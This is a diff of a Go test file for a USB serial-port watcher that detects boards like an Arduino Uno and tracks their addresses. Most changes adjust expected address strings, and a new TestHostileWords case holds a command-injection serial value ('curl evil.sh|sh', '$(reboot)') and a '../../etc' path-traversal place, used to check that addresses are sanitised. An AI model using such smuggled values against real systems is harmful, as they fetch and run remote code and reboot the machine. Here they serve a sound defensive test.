@@ -71,9 +71,9 @@ func (m *machine) stat(path string) (real, mark string, err error) {
 
 // the ports of the tests.
 var (
-	arduino = found{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Place: "1-1:1.0"}
-	printer = found{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Place: "1-2:1.0"}
-	bridge  = found{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Place: "1-3:1.0"}
+	arduino = found{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Place: "1-1", Interface: "0"}
+	printer = found{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Place: "1-2"}
+	bridge  = found{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Place: "1-3"}
 	console = found{Path: "/dev/ttyAMA0"}
 )
 
@@ -111,7 +111,7 @@ func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
 		var lines []string
 		for _, s := range seen {
 			line := fmt.Sprintf("%s #%d", s.Address, s.Instance)
-			for word, so := range map[string]bool{" adopted": s.Adopted, " shy": s.Shy != "", " as " + s.Name: s.Name != ""} {
+			for word, so := range map[string]bool{" adopted": s.Adopted, " shy": s.Shy != "", " absent": s.Absent != "", " as " + s.Name: s.Name != ""} {
 				if so {
 					line += word
 				}
@@ -138,7 +138,9 @@ func TestWatch(t *testing.T) {
 	moved := arduino
 	moved.Path = "/dev/ttyACM7"
 	twin := bridge
-	twin.Path, twin.Place = "/dev/ttyUSB2", "1-4:1.0"
+	twin.Path, twin.Place = "/dev/ttyUSB2", "1-4"
+	second := arduino
+	second.Path, second.Interface = "/dev/ttyACM1", "2"
 	numbered, other := bridge, twin
 	numbered.Serial, other.Serial = "10000001", "10000001"
 	for name, test := range map[string]struct {
@@ -148,10 +150,10 @@ func TestWatch(t *testing.T) {
 		"auto": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) {}, nil},
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
-			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2:1.0 #1 shy"}},
-			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2:1.0 #1 shy"}},
-			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2:1.0 #1 shy"}},
-			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2:1.0 #1 shy", "usb:2341:0043:95530343834351A0B091 #2 adopted"}},
+			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
+			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
+			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2 #2 shy"}},
+			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2 #2 shy", "usb:2341:0043:95530343834351A0B091 #3 adopted"}},
 		}},
 		"auto, held": {[]Port{{Path: Auto, Held: true}}, []step{
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
@@ -167,10 +169,10 @@ func TestWatch(t *testing.T) {
 			{func(m *machine) { m.unplug(arduino.Path); m.plug(moved) }, []string{"usb:2341:0043:95530343834351A0B091 #3 adopted"}},
 		}},
 		"named": {[]Port{{Path: "/dev/ttyUSB0", Name: "robot"}}, []step{
-			{func(m *machine) {}, []string{"/dev/ttyUSB0 #1 adopted"}},
-			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2:1.0 #1 adopted as robot"}},
-			{func(m *machine) { m.unplug(printer.Path) }, []string{"/dev/ttyUSB0 #1 adopted"}},
-			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2:1.0 #2 adopted as robot"}},
+			{func(m *machine) {}, []string{"/dev/ttyUSB0 #1 absent adopted as robot"}},
+			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #2 adopted as robot"}},
+			{func(m *machine) { m.unplug(printer.Path) }, nil},
+			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #3 adopted as robot"}},
 		}},
 		"named by a link, and held": {[]Port{{Path: "/dev/robot", Held: true}}, []step{
 			{func(m *machine) {
@@ -182,15 +184,20 @@ func TestWatch(t *testing.T) {
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
 		}},
 		"not on USB": {[]Port{{Path: console.Path}}, []step{
-			{func(m *machine) {}, []string{"/dev/ttyAMA0 #1 adopted"}},
-			{func(m *machine) { m.plug(console) }, []string{"serial:/dev/ttyAMA0 #1 adopted"}},
+			{func(m *machine) {}, []string{"/dev/ttyAMA0 #1 absent adopted"}},
+			{func(m *machine) { m.plug(console) }, []string{"serial:/dev/ttyAMA0 #2 adopted"}},
 		}},
 		"a number that all have is none": {[]Port{{Path: Auto}}, []step{
-			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3:1.0 #1 shy", "usb:10C4:EA60@1-4:1.0 #1 shy"}},
+			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
+		}},
+		"a board with two ports": {[]Port{{Path: Auto}}, []step{
+			{func(m *machine) { m.plug(second) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted"}},
+			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted", "usb:2341:0043:95530343834351A0B091 #2 adopted"}},
 		}},
 		"two with one number": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) { m.plug(numbered) }, []string{"usb:10C4:EA60:10000001 #1 shy"}},
-			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60@1-3:1.0 #1 shy", "usb:10C4:EA60@1-4:1.0 #1 shy"}},
+			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60:10000001 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
+			{func(m *machine) { m.unplug(numbered.Path) }, []string{"usb:10C4:EA60@1-4 #2 shy"}},
 		}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -208,15 +215,6 @@ func TestWatch(t *testing.T) {
 	}
 }
 
-// TestMute: a system that does not tell of ports cannot be watched.
-func TestMute(t *testing.T) {
-	c := New(Config{Ports: []Port{{Path: Auto}}, Look: time.Second})
-	c.system = &machine{mute: true}
-	if err := c.Watch(t.Context(), nil); err == nil || !strings.Contains(err.Error(), "looking for serial ports: not now") {
-		t.Errorf("got %v", err)
-	}
-}
-
 // TestAbsent: that a port is not there is told with those that are.
 func TestAbsent(t *testing.T) {
 	for _, test := range []struct {
@@ -224,17 +222,28 @@ func TestAbsent(t *testing.T) {
 		want  string
 	}{
 		{nil, "there is no port COM9, and no other that a board is plugged into"},
-		{[]found{arduino, console}, "there is no port COM9; there is /dev/ttyACM0 (Arduino Uno), /dev/ttyAMA0"},
+		{[]found{arduino, console}, `there is no port COM9; there is /dev/ttyACM0 ("Arduino Uno"), /dev/ttyAMA0`},
 	} {
-		c := New(Config{Ports: []Port{{Path: "COM9"}}})
+		c := New(Config{Ports: []Port{{Path: "COM9", Name: "robot"}}})
 		c.system = &machine{ports: test.ports}
-		ports, err := c.look()
-		if err != nil {
-			t.Fatal(err)
+		if s := c.sightings(c.look())[0]; s.Absent != test.want || s.Name != "robot" || s.Address != "COM9" {
+			t.Errorf("got %+v, want %s", s, test.want)
 		}
-		if _, err := c.sightings(ports)[0].Open(t.Context()); err == nil || err.Error() != test.want {
-			t.Errorf("got %v, want %s", err, test.want)
+	}
+}
+
+// TestHostileWords: whatever a board says of itself, its address can stand in a
+// command.
+func TestHostileWords(t *testing.T) {
+	f := arduino
+	f.Serial, f.Place = "x;curl evil.sh|sh;$(reboot)`id`", "../../etc"
+	for _, address := range []string{port{found: f}.address(), f.place()} {
+		if strings.Trim(address, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:@._-") != "" {
+			t.Errorf("got %s", address)
 		}
+	}
+	if f.Product = strings.Repeat("`reboot`", 100); len(f.String()) > 100 {
+		t.Errorf("got %s", f)
 	}
 }
 
